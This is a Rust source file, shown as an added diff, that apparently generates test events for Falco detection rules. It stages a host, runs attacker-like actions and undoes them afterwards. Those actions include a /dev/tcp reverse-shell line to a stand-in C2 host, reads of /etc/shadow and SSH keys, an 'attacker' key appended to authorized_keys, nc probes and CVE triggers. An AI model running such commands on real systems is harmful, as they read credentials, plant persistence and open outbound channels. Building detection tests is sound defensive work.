@@ -1,0 +1,297 @@
+//! The actions `evtgen --falco-rules` adds for Falco rules no default-pack action
+//! performs, and the host set-up they need (as an image or a runtime would provide it),
+//! undone after the run.
+use std::{
+    path::{Path, PathBuf},
+    process::Command,
+};
+
+use anyhow::{Context as _, Result};
+
+use crate::evtgen::{act, py, sh, tool, Action, Ctx, API, C2, PUBLIC, TOOLS, WORK};
+
+/// Actions for Falco rules no default-pack action performs. Their `rule` is the Falco
+/// rule they are written for (each is also in [`EXPECT`]).
+pub(crate) fn extra_actions() -> Vec<Action> {
+    vec![
+        act!("cat ../../etc/shadow", "Directory traversal monitored file read", "T1555", traversal),
+        act!("nginx reads /etc/shadow after 6 s", "Read sensitive file trusted after startup", "T1555", late_read),
+        act!("login as nobody", "System user interactive", "T1059", system_user_login),
+        act!("sh on a pty under containerd-shim", "Terminal shell in container", "T1059", pty_shell),
+        act!("find .aws/credentials", "Find AWS Credentials", "T1552", find_aws),
+        act!("drop and run in an overlay upper layer", "Drop and execute new binary in container", "T1610", drop_ovl),
+        act!("ssh to a public host on :443", "Disallowed SSH Connection Non Standard Port", "T1059", ssh_443),
+        act!("cat /home/*/.ssh/id_rsa", "Read ssh information", "T1005", home_ssh_read),
+        act!("append /home/*/.ssh/authorized_keys", "Adding ssh keys to authorized_keys", "T1098.004", home_ssh_key),
+        act!("unshare -U as uid 1000", "Change namespace privileges via unshare", "T1611", unshare_user),
+        act!("curl with HTTP_PROXY", "Program run with disallowed http proxy env", "T1090", http_proxy),
+        act!("UDP to port 1337", "Unexpected UDP Traffic", "T1095", udp_1337),
+        act!(
+            "kubectl cp (tar under containerd-shim)",
+            "Exfiltrating Artifacts via Kubernetes Control Plane",
+            "T1020",
+            kubectl_cp
+        ),
+        act!(
+            "sshd opens liblzma.so.5.6.1",
+            "Backdoored library loaded into SSHD (CVE-2024-3094)",
+            "T1554",
+            sshd_liblzma
+        ),
+        act!("write /etc/apt/sources.list.d", "Update Package Repository", "T1072", apt_source),
+        act!("sudoedit -s 'x\\' as uid 1000", "Sudo Potential Privilege Escalation", "T1548.003", sudoedit),
+        act!(
+            "pkexec without arguments as uid 1000",
+            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
+            "T1068",
+            pkexec
+        ),
+        act!("nginx spawns a /dev/tcp shell", "Reverse Shell from Web Server", "T1190", web_reverse_shell),
+        act!("write /usr/bin/lnr-evtgen", "Write below binary dir", "T1543", bin_write),
+        act!("rm /usr/bin/lnr-evtgen", "Modify binary dirs", "T1222", bin_remove),
+        act!("mkdir /usr/bin/lnr-evtgen.d", "Mkdir binary dirs", "T1222", bin_mkdir),
+        act!("write /lnr-evtgen", "Write below root", "T1543", root_write),
+        act!("write /var/lib/rpm", "Write below rpm database", "T1072", rpm_write),
+        act!("npm install runs nc", "Network Tool Executed During NPM Package Install", "T1195.002", npm_nc),
+    ]
+}
+
+/// Host paths the actions create (removed after the run).
+const BIN_FILE: &str = "/usr/bin/lnr-evtgen";
+const BIN_DIR: &str = "/usr/bin/lnr-evtgen.d";
+const ROOT_FILE: &str = "/lnr-evtgen";
+const RPM_FILE: &str = "/var/lib/rpm/lnr-evtgen";
+
+/// A user's home on the host (`/home/*`, where Falco's ssh macros look), removed after the run.
+const HOME: &str = "/home/lnr-evtgen";
+/// What the cluster's DNS answers for the API server's service name (its ClusterIP,
+/// [`API`]), in /etc/hosts for the run: the agent resolves the names Falco's rules
+/// compare `fd.sip.name` with, as it would through the cluster's DNS.
+fn hosts_line() -> String {
+    format!("{API} kubernetes.default.svc.cluster.local # lnr-evtgen")
+}
+const APT_SOURCE: &str = "/etc/apt/sources.list.d/lnr-evtgen.list";
+
+/// The overlay mount [`drop_ovl`] writes into: lower, upper and work directories beside it.
+fn ovl() -> PathBuf {
+    Path::new(WORK).join("ovl")
+}
+
+/// Host set-up for [`extra_actions`], as an image or a runtime would provide it: `login`
+/// (a copy of /bin/true), `containerd-shim` (python3 under the shim's process name) and
+/// an overlayfs mount (a container root's kind of file system).
+pub(super) fn prepare() -> Result<()> {
+    for t in ["login", "pkexec", "sudoedit"] {
+        std::fs::copy("/bin/true", Path::new(TOOLS).join(t)).with_context(|| format!("install {t}"))?;
+    }
+    std::fs::copy("/bin/bash", Path::new(TOOLS).join("sshd")).context("install sshd")?;
+    std::fs::copy("/bin/bash", Path::new(TOOLS).join("npm")).context("install npm")?;
+    if !Path::new("/var/lib/rpm").exists() {
+        std::fs::create_dir_all("/var/lib/rpm")?;
+        std::fs::write(RPM_MARK, "")?;
+    }
+    std::fs::write(Path::new(WORK).join("liblzma.so.5.6.1"), "lnr-evtgen\n")?;
+    std::fs::create_dir_all(Path::new(HOME).join(".ssh"))?;
+    std::fs::write(Path::new(HOME).join(".ssh/id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\nlnr-evtgen fake\n")?;
+    let _ = std::fs::remove_file(Path::new(TOOLS).join("containerd-shim"));
+    std::os::unix::fs::symlink("/usr/bin/python3", Path::new(TOOLS).join("containerd-shim"))?;
+    let o = ovl();
+    for d in ["lower", "upper", "work", "merged"] {
+        std::fs::create_dir_all(o.join(d))?;
+    }
+    let opts = format!(
+        "lowerdir={},upperdir={},workdir={}",
+        o.join("lower").display(),
+        o.join("upper").display(),
+        o.join("work").display()
+    );
+    crate::sh(Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(o.join("merged")))
+}
+
+/// Before the agent starts: the API server's service name in /etc/hosts.
+pub(super) fn hosts_add() -> Result<()> {
+    hosts_remove();
+    let mut h = std::fs::read_to_string("/etc/hosts")?;
+    if !h.ends_with('\n') && !h.is_empty() {
+        h.push('\n');
+    }
+    h.push_str(&hosts_line());
+    h.push('\n');
+    std::fs::write("/etc/hosts", h).context("/etc/hosts")
+}
+
+fn hosts_remove() {
+    if let Ok(h) = std::fs::read_to_string("/etc/hosts") {
+        if h.contains("# lnr-evtgen") {
+            let kept: String = h.lines().filter(|l| !l.ends_with("# lnr-evtgen")).map(|l| format!("{l}\n")).collect();
+            let _ = std::fs::write("/etc/hosts", kept);
+        }
+    }
+}
+
+/// Undo [`prepare`] and [`hosts_add`] (what `host::cleanup` does not cover).
+pub(super) fn cleanup() {
+    unmount();
+    let _ = std::fs::remove_dir_all(ovl());
+    hosts_remove();
+    let _ = std::fs::remove_dir_all(HOME);
+    let _ = std::fs::remove_file(APT_SOURCE);
+    for f in [BIN_FILE, ROOT_FILE, RPM_FILE] {
+        let _ = std::fs::remove_file(f);
+    }
+    let _ = std::fs::remove_dir(BIN_DIR);
+    if Path::new(RPM_MARK).exists() {
+        // Only the empty directory prepare() made goes.
+        let _ = std::fs::remove_dir("/var/lib/rpm");
+        let _ = std::fs::remove_file(RPM_MARK);
+    }
+}
+
+/// Set when [`prepare`] created /var/lib/rpm (a host without rpm).
+const RPM_MARK: &str = "/tmp/lnr-evtgen-rpm.mark";
+
+fn unmount() {
+    let m = std::ffi::CString::new(ovl().join("merged").to_string_lossy().as_bytes()).expect("path");
+    unsafe { libc::umount2(m.as_ptr(), libc::MNT_DETACH) };
+}
+
+fn traversal(c: &Ctx) -> Result<()> {
+    // The pod's working directory is WORK, two levels below /.
+    c.pod.run("cat", &["../../etc/shadow"], None, None)
+}
+
+fn late_read(c: &Ctx) -> Result<()> {
+    // A server (bash under nginx's name) that has run for more than 5 s opens /etc/shadow itself.
+    tool(c, "nginx", &["-c", "sleep 6; exec 3</etc/shadow"])
+}
+
+fn system_user_login(c: &Ctx) -> Result<()> {
+    c.pod.run(&format!("{TOOLS}/login"), &[], Some(65534), None)
+}
+
+fn pty_shell(c: &Ctx) -> Result<()> {
+    // As `kubectl exec -it`: the shell's controlling terminal is a pty, its parent the shim.
+    tool(
+        c,
+        "containerd-shim",
+        &["-c", "import os, pty\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-c', 'exit 0'])\nos.waitpid(pid, 0)"],
+    )
+}
+
+fn find_aws(c: &Ctx) -> Result<()> {
+    c.pod.run("find", &[WORK, "-path", "*/.aws/credentials"], None, None)
+}
+
+fn drop_ovl(c: &Ctx) -> Result<()> {
+    let m = ovl().join("merged");
+    sh(c, &format!("cp /bin/true {0}/dropped && {0}/dropped", m.display()))
+}
+
+fn home_ssh_read(c: &Ctx) -> Result<()> {
+    c.pod.run("cat", &[&format!("{HOME}/.ssh/id_rsa")], None, None)
+}
+
+fn home_ssh_key(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo 'ssh-ed25519 AAAAC3lnrevtgen attacker' >> {HOME}/.ssh/authorized_keys"))
+}
+
+fn unshare_user(c: &Ctx) -> Result<()> {
+    // Without CAP_SYS_ADMIN (an unprivileged user); refused or not, the attempt is the behaviour.
+    c.pod.run("unshare", &["-U", "true"], Some(1000), None)
+}
+
+fn http_proxy(c: &Ctx) -> Result<()> {
+    let url = format!("http://{C2}:8080/healthz");
+    let proxy = format!("HTTP_PROXY=http://{C2}:8080");
+    c.pod.run("env", &[&proxy, "curl", "-s", "-m", "2", "-o", "/dev/null", &url], None, None)
+}
+
+fn udp_1337(c: &Ctx) -> Result<()> {
+    py(c, &format!("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('{C2}', 1337))\ns.send(b'hi')"), None)
+}
+
+fn kubectl_cp(c: &Ctx) -> Result<()> {
+    // `kubectl cp pod:/data .` runs `tar cf - /data` in the container through the runtime.
+    tool(
+        c,
+        "containerd-shim",
+        &[
+            "-c",
+            &format!("import subprocess\nsubprocess.run(['tar', 'cf', '-', '{WORK}/data'], stdout=subprocess.DEVNULL)"),
+        ],
+    )
+}
+
+fn sshd_liblzma(c: &Ctx) -> Result<()> {
+    // The daemon (bash under sshd's name) opens a library file of the backdoored versions.
+    tool(c, "sshd", &["-c", &format!("exec 3<{WORK}/liblzma.so.5.6.1")])
+}
+
+fn apt_source(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo 'deb http://{C2}/debian stable main' > {APT_SOURCE}"))
+}
+
+fn sudoedit(c: &Ctx) -> Result<()> {
+    // CVE-2021-3156's trigger: a shell-mode sudoedit whose argument ends in a backslash.
+    c.pod.run(&format!("{TOOLS}/sudoedit"), &["-s", "x\\"], Some(1000), None)
+}
+
+fn pkexec(c: &Ctx) -> Result<()> {
+    // CVE-2021-4034 (PwnKit): pkexec with no arguments (the exploit passes an empty argv,
+    // which std cannot; Falco's rule looks at the empty argument string either way).
+    c.pod.run(&format!("{TOOLS}/pkexec"), &[], Some(1000), None)
+}
+
+fn web_reverse_shell(c: &Ctx) -> Result<()> {
+    // `; exit` keeps the server's bash from exec'ing the shell in its own place.
+    tool(c, "nginx", &["-c", &format!("bash -c 'echo id >/dev/tcp/{C2}/443'; exit $?")])
+}
+
+fn bin_write(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo '#!/bin/sh' > {BIN_FILE}"))
+}
+
+fn bin_remove(c: &Ctx) -> Result<()> {
+    c.pod.run("rm", &["-f", BIN_FILE], None, None)
+}
+
+fn bin_mkdir(c: &Ctx) -> Result<()> {
+    c.pod.run("mkdir", &[BIN_DIR], None, None)?;
+    std::fs::remove_dir(BIN_DIR).context(BIN_DIR)
+}
+
+fn root_write(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo x > {ROOT_FILE}"))
+}
+
+fn rpm_write(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo x > {RPM_FILE}"))
+}
+
+fn npm_nc(c: &Ctx) -> Result<()> {
+    // A package's install script (bash under npm's name) probes the network with nc.
+    tool(c, "npm", &["-c", &format!("{TOOLS}/nc -z {C2} 80; exit $?")])
+}
+
+fn ssh_443(c: &Ctx) -> Result<()> {
+    let target = format!("evt@{PUBLIC}");
+    c.pod.run(
+        "timeout",
+        &[
+            "3",
+            "ssh",
+            "-p",
+            "443",
+            "-o",
+            "BatchMode=yes",
+            "-o",
+            "ConnectTimeout=2",
+            "-o",
+            "StrictHostKeyChecking=no",
+            &target,
+            "id",
+        ],
+        None,
+        None,
+    )
+}
